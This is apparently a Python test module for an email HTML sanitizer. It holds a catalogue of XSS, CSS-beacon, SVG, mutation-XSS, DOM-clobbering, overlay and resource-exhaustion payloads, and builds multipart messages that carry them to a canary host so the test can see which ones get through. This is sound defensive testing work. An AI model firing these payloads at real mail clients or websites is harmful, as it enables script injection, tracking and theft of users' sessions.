"""Hostile mail: what attacks are made of, one payload to a part, and the messages that carry them.

In a payload `%U` stands for an address of the canary and `%J` for a script that gives itself away;
neither holds a space, a double quote or an angle bracket, so that both stand in unquoted attributes.
"""

import base64
import re
import time
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from typing import Final

from tests.mime.corpora import html_vectors

_SVG_THAT_FETCHES: Final = base64.b64encode(
    b'<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="http://canary.example/use"/></svg>'
).decode()
FAMILIES: Final[dict[str, Sequence[str]]] = {
    "script": (
        "<script>%J</script>",
        "<script src=%U></script>",
        "<scr<script></script>ipt>%J</script>",
        "<SCRIPT/x>%J</SCRIPT>",
        "<svg><script>%J</script></svg>",
    ),
    "handler": (
        "<img src=x onerror=%J>",
        "<img/src=x/onerror=%J>",
        "<svg onload=%J>",
        "<body onload=%J>",
        "<input autofocus onfocus=%J>",
        "<details open ontoggle=%J>x</details>",
        "<video><source onerror=%J></video>",
        "<p onmouseover=%J>over</p>",
        "<style>@keyframes k{}</style><p style='animation:k 1s' onanimationstart=%J>x</p>",
    ),
    "javascript": (
        '<iframe src="javascript:%J"></iframe>',
        '<a href="javascript:%J">x</a>',
        '<a href="java\tscript:%J">x</a>',
        '<a href="&#106;ava&#x0A;script&colon;%J">x</a>',
        '<a href="\x01javascript:%J">x</a>',
        '<form action="javascript:%J"><button>x</button></form>',
        '<object data="data:text/html,<script>%J</script>"></object>',
    ),
    "image": (
        "<img src=%U>",
        '<img srcset="%U 1x">',
        '<picture><source srcset="%U"><img src="data:,"></picture>',
        "<body background=%U>",
        "<table background=%U><tr><td>x</td></tr></table>",
        "<table><tr><td background=%U>x</td></tr></table>",
        "<video poster=%U></video>",
        "<input type=image src=%U>",
        "<image src=%U>",
        "<a ping=%U href='#here'>x</a>",
    ),
    "style": (
        "<p style='background:url(%U)'>x</p>",
        "<p style='background:\\75rl(%U)'>x</p>",
        "<p style='--y:url(%U);background:var(--y)'>x</p>",
        "<style>:root{--x:url(%U)}p{background:var(--x)}</style><p>x</p>",
        "<p style='background:image-set(\"%U\" 1x)'>x</p>",
        "<ul><li style='list-style:url(%U)'>x</li></ul>",
        "<p style='border:9px solid;border-image:url(%U) 9'>x</p>",
        "<p style='-webkit-mask:url(%U);mask:url(%U)'>x</p>",
        "<p style='cursor:url(%U),auto'>x</p>",
        "<p style='filter:url(%U#f)'>x</p>",
        "<p style='float:left;width:9px;height:9px;shape-outside:url(%U)'>x</p>",
        "<p style='content:url(%U)'>x</p>",
        "<style>@import url(%U);</style>",
        "<style>@import '%U';</style>",
        "<style>@font-face{font-family:f;src:url(%U)}p{font-family:f}</style><p>x</p>",
        "<style>@media all{p{background:url(%U)}}</style><p>x</p>",
        "<style>@supports (top:0){p{background:url(%U)}}</style><p>x</p>",
        "<style>@layer a{p{background:url(%U)}}</style><p>x</p>",
        "<style>div{color:red;& p{background:url(%U)}}</style><div><p>x</p></div>",
        "<style>p::before{content:url(%U)}</style><p>x</p>",
        "<style>p{background:u\\72l(%U)}</style><p>x</p>",
    ),
    "loading": (
        "<link rel=stylesheet href=%U>",
        "<link rel=preload as=image href=%U>",
        "<link rel=prefetch href=%U>",
        "<link rel=dns-prefetch href=%U>",
        "<meta http-equiv=refresh content=0;url=%U>",
        "<base href=%U/><img src=relative>",
        "<video src=%U></video>",
        "<audio src=%U></audio>",
        "<object data=%U></object>",
        "<embed src=%U>",
        "<iframe src=%U></iframe>",
        "<iframe srcdoc='<script>fetch(`%U`)</script>'></iframe>",
        "<frameset><frame src=%U></frameset>",
        "<video controls><track default src=%U></video>",
    ),
    "svg": (
        "<svg><image href=%U></svg>",
        "<svg><image xlink:href=%U></svg>",
        "<svg><use href=%U#x></svg>",
        f"<svg><use href='data:image/svg+xml;base64,{_SVG_THAT_FETCHES}#x'></svg>",
        "<svg width=9 height=9><filter id=f><feImage href=%U /></filter><rect width=9 height=9 filter=url(#f)></svg>",
        "<svg width=9 height=9><image><set attributeName=href to=%U /></image></svg>",
        "<svg><animate onbegin=%J attributeName=x dur=1s /></svg>",
        '<svg><a><animate attributeName=href values="javascript:%J" /><text y=20>x</text></a></svg>',
        "<svg width=9 height=9><rect width=9 height=9 style=fill:url(%U#a)></svg>",
        "<svg><style>@import '%U';</style></svg>",
        "<svg><foreignObject><img src=%U></foreignObject></svg>",
    ),
    "mutation": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=%J&gt;">',
        '<noscript><p title="</noscript><img src=x onerror=%J>"></noscript>',
        '<xmp><p title="</xmp><img src=x onerror=%J>"></xmp>',
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=%J>",
        '<svg></p><style><a id="</style><img src=x onerror=%J>">',
        '<textarea><p title="</textarea><img src=x onerror=%J>"></textarea>',
        '<title><p title="</title><img src=x onerror=%J>"></title>',
        "<!--><img src=x onerror=%J>-->",
        "<![CDATA[<img src=x onerror=%J>]]>",
        "<table><tr><a href='#'><table><a href='#'><img src=x onerror=%J>",
    ),
    "form": (
        "<form action=%U><input name=a><button>x</button></form>",
        "<form><button formaction=%U>x</button></form>",
        "<form id=f action=%U></form><button form=f>x</button>",
    ),
    "clobbering": (
        "<img name=getElementById><a id=body name=body>x</a><form name=documentElement><input name=parentNode></form>",
        "<form id=root><input name=attributes><input name=childNodes></form><a id=__canary href=%U>x</a>",
        "<iframe name=navigator></iframe><a id=location href=%U>x</a>",
    ),
    "overlay": (
        "<div style='position:fixed;inset:0;z-index:2147483647;background:red'>everything</div>",
        "<style>html,body,div{position:fixed!important;top:0!important;left:0!important;z-index:9999}</style><div>x</div>",
        "<div style='position:absolute;top:-500px;left:-900px;width:4000px;height:4000px;background:red'>x</div>",
        "<div style='margin:-900px;width:5000px;height:3000px;background:red'>x</div>",
        "<div style='transform:translate(-900px,-400px) scale(9);background:red'>x</div>",
        "<style>nav,header,[data-thread],button{display:none!important}*{color:red!important}</style><p>x</p>",
    ),
    "bomb": (
        "<style>" + "".join(f"@keyframes k{n}{{to{{width:{n}px}}}}" for n in range(2_000)) + "</style><p>x</p>",
        "<div>" * 3_000 + "deep",
        "<table><tr><td>" * 400 + "deep",
    ),
}
# Chromium of 2025 and later does nothing with these even without any protection, or their harm is not one that is
# told to the canary: they are delivered all the same.
SILENT: Final = frozenset({"clobbering", "overlay", "bomb"})
_HOST: Final = re.compile(r"(?:https?:)?//[\w-]+(?:\.[\w-]+)+(?::\d+)?", re.IGNORECASE)


@dataclass(frozen=True, slots=True)
class Vector:
    """One attack, its addresses already those of the canary."""

    name: str
    html: str


def family_vectors(canary: str) -> list[Vector]:
    """Our own payloads; each tells its own name when it gets through."""
    found = []
    for family, payloads in FAMILIES.items():
        for number, payload in enumerate(payloads):
            name = f"{family}-{number}"
            html = payload.replace("%J", script(canary, name)).replace("%U", f"{canary}/{name}")
            found.append(Vector(name, html.replace("http://canary.example/use", f"{canary}/{name}")))
    return found


def script(canary: str, name: str) -> str:
    """A script that sets a property of every window above, writes, posts a message and fetches."""
    return (
        f"window.__canary=top.__canary='{name}';console.log('CANARY:{name}');"
        f"top.postMessage('CANARY:{name}','*');fetch('{canary}/{name}',{{mode:'no-cors'}})"
    )


def corpus_vectors(canary: str) -> list[Vector]:
    """Every attack of the corpus, and every file as a whole; each foreign host is the canary, for all the same."""
    seen: set[str] = set()
    found = []
    for name, payload in html_vectors():
        html = _HOST.sub(f"{canary}/corpus", payload)
        if html.strip() and html not in seen:
            seen.add(html)
            found.append(Vector(name, html))
    return found


def packed(vectors: Iterable[Vector], parts: int, octets: int) -> list[list[Vector]]:
    """Vectors by the message they go in: at most so many, and about so many octets."""
    messages: list[list[Vector]] = [[]]
    size = 0
    for vector in vectors:
        if messages[-1] and (len(messages[-1]) >= parts or size + len(vector.html) > octets):
            messages.append([])
            size = 0
        messages[-1].append(vector)
        size += len(vector.html)
    return messages


def message(subject: str, vectors: Sequence[Vector]) -> bytes:
    """A message whose text is one HTML part for each vector, so that none of them swallows the next."""
    parts = [_part("text/html", vector.html.encode("utf-8", "replace")) for vector in vectors]
    head = (
        f"Date: {time.strftime('%a, %d %b %Y %H:%M:%S +0000', time.gmtime())}\r\n"
        f"From: Eve <eve@attacks.example>\r\nTo: emily@northwind-trading.example\r\nSubject: {subject}\r\n"
        f"Message-ID: <{time.time_ns()}@attacks.example>\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=hostile\r\n\r\n"
    )
    return (head + "".join(f"--hostile\r\n{part}" for part in parts) + "--hostile--\r\n").encode()


def _part(content_type: str, content: bytes) -> str:
    body = base64.encodebytes(content).decode().replace("\n", "\r\n")
    return f"Content-Type: {content_type}; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}\r\n"
